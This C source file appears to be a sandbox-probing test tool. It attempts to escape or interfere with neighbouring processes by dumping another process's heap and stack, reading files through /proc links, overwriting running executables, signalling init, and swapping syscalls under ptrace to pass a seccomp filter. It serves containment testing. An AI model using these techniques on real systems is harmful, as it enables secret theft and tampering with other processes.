/* SPDX-License-Identifier: Apache-2.0 */
/* Tries on the processes around: the sandbox's init, who joins it, the caller's process group. */
#define _GNU_SOURCE
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* --- memory and the process group ------------------------------------------------------------ */

/* Print the strings of another process's heap and stack, where its environment lies. */
static int try_memory(int argc, char **argv)
{
    char path[64], line[512];
    static char buffer[1 << 18];
    long total = 0;
    FILE *maps;

    (void)argc;
    snprintf(path, sizeof(path), "/proc/%s/maps", argv[0]);
    maps = fopen(path, "re");
    if (maps == NULL)
        return refused("open of maps");
    while (fgets(line, sizeof(line), maps) != NULL) {
        unsigned long from, to;
        struct iovec local, remote;
        ssize_t n;

        if (strstr(line, "[stack]") == NULL && strstr(line, "[heap]") == NULL)
            continue;
        if (sscanf(line, "%lx-%lx", &from, &to) != 2)
            continue;
        local = (struct iovec){buffer, to - from < sizeof(buffer) ? to - from : sizeof(buffer)};
        /* A stack is read from its end. */
        remote = (struct iovec){(void *)(uintptr_t)(to - local.iov_len), local.iov_len};
        n = process_vm_readv((pid_t)atoi(argv[0]), &local, 1, &remote, 1, 0);
        if (n > 0) {
            fwrite(buffer, 1, (size_t)n, stdout);
            total += n;
        }
    }
    fclose(maps);
    putchar('\n');
    return total > 0 ? verdict(0, "process_vm_readv") : refused("process_vm_readv");
}

static int try_group_priority(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    return verdict(setpriority(PRIO_PGRP, 0, 19), "setpriority(PRIO_PGRP)");
}

/* The idle class: 3 in the upper three bits of sixteen. */
static int try_group_ioprio(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    return verdict(syscall(SYS_ioprio_set, 2 /* IOPRIO_WHO_PGRP */, 0, 3 << 13), "ioprio_set");
}

/* Every signal to pid 1. */
static int try_signal_init(int argc, char **argv)
{
    int sent = 0;

    (void)argc;
    (void)argv;
    for (int number = 1; number < 65; number++)
        sent += kill(1, number) == 0;
    return verdict(sent == 0 ? -1 : 0, "kill(1)");
}

/* --- those who join ----------------------------------------------------------------------------
 */

static bool read_to_stdout(const char *path)
{
    char buffer[256];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, buffer, sizeof(buffer));

    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return false;
    fwrite(buffer, 1, (size_t)n, stdout);
    fflush(stdout);
    return true;
}

/* Look for @wanted by the ways out that a process's links in /proc may be. */
static bool rob(const char *pid, const char *wanted)
{
    static const char *const ways[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"};
    char path[4300];

    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
        snprintf(path, sizeof(path), "/proc/%s/%s%s", pid, ways[i], wanted);
        if (read_to_stdout(path))
            return true;
    }
    return false;
}

static bool time_is_over(const struct timespec *begin, int seconds)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec - begin->tv_sec >= seconds;
}

/* Call @robber for every process but us until it succeeds or the time is over. */
static int watch_processes(const char *argument, int seconds,
                           bool (*robber)(const char *pid, const char *argument))
{
    struct timespec begin;
    char self[16];

    snprintf(self, sizeof(self), "%d", (int)getpid());
    clock_gettime(CLOCK_MONOTONIC, &begin);
    puts("watching");
    fflush(stdout);
    while (!time_is_over(&begin, seconds)) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        if (proc == NULL)
            return refused("opendir");
        while ((entry = readdir(proc)) != NULL) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' ||
                strcmp(entry->d_name, self) == 0)
                continue;
            if (robber(entry->d_name, argument)) {
                closedir(proc);
                return verdict(0, "a process was robbed");
            }
        }
        closedir(proc);
    }
    errno = ETIME;
    return refused("no process was robbed");
}

static int try_rob(int argc, char **argv)
{
    (void)argc;
    return watch_processes(argv[0], atoi(argv[1]), rob);
}

/*
 * Hold the program that a process runs, by /proc/PID/exe, and write to it once nobody runs it any
 * more.  Only a file of that very name is touched.
 */
static bool overwrite(const char *pid, const char *name)
{
    char path[64], target[4096];
    ssize_t length;
    int held;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    length = readlink(path, target, sizeof(target) - 1);
    if (length < 0)
        return false;
    target[length] = '\0';
    if (strrchr(target, '/') == NULL || strcmp(strrchr(target, '/') + 1, name) != 0)
        return false;
    held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0)
        return false;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    for (int i = 0; i < 200; i++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);

        if (fd >= 0)
            return write(fd, "#!/owned\n", 9) == 9;
        if (errno != ETXTBSY)
            break;
        usleep(5000);
    }
    close(held);
    return false;
}

static int try_overwrite_exe(int argc, char **argv)
{
    (void)argc;
    return watch_processes(argv[0], atoi(argv[1]), overwrite);
}

/* --- a tracer against a filter ------------------------------------------------------------------
 */

/* A traced child calls getpid; its tracer makes keyctl of it once the filter has let it pass. */
static int try_tracer_swap(int argc, char **argv)
{
    (void)argc;
    (void)argv;
#ifdef __x86_64__
    struct user_regs_struct registers;
    int status;
    pid_t pid = fork();

    if (pid < 0)
        return untried("fork");
    if (pid == 0) {
        long result;

        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        raise(SIGSTOP);
        result = syscall(SYS_getpid, KEY_SPEC_SESSION_KEYRING, 0);
        _exit(result < 0 && errno == ENOSYS ? 2 : result < 0 ? 1 : 0);
    }
    waitpid(pid, &status, 0);
    if (!WIFSTOPPED(status))
        return untried("the child can't be traced");
    for (;;) {
        ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
        if (waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status))
            break;
        if (ptrace(PTRACE_GETREGS, pid, NULL, &registers) == 0 &&
            registers.orig_rax == SYS_getpid && (long)registers.rax == -ENOSYS) {
            registers.orig_rax = SYS_keyctl;
            registers.rdi = KEYCTL_GET_KEYRING_ID;
            registers.rsi = (unsigned long)KEY_SPEC_SESSION_KEYRING;
            registers.rdx = 0;
            ptrace(PTRACE_SETREGS, pid, NULL, &registers);
        }
    }
    printf("%s: keyctl in the place of getpid\n",
           WIFEXITED(status) && WEXITSTATUS(status) == 0 ? "done" : "refused");
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? TRY_DONE : TRY_REFUSED;
#else
    return untried("not an x86-64 machine");
#endif
}

const struct command neighbour_tries[] = {
    {"memory", 1, try_memory, "PID: print its heap and stack"},
    {"group-priority", 0, try_group_priority, "the lowest for the own process group"},
    {"group-ioprio", 0, try_group_ioprio, "the idle class for the own process group"},
    {"signal-init", 0, try_signal_init, "every signal to pid 1"},
    {"rob", 2, try_rob, "PATH SECONDS: read it by what other processes have open"},
    {"overwrite-exe", 2, try_overwrite_exe, "NAME SECONDS: overwrite the program of that name"},
    {"tracer-swap", 0, try_tracer_swap, "pass a filter by tracing a child"},
    {NULL, 0, NULL, NULL},
};
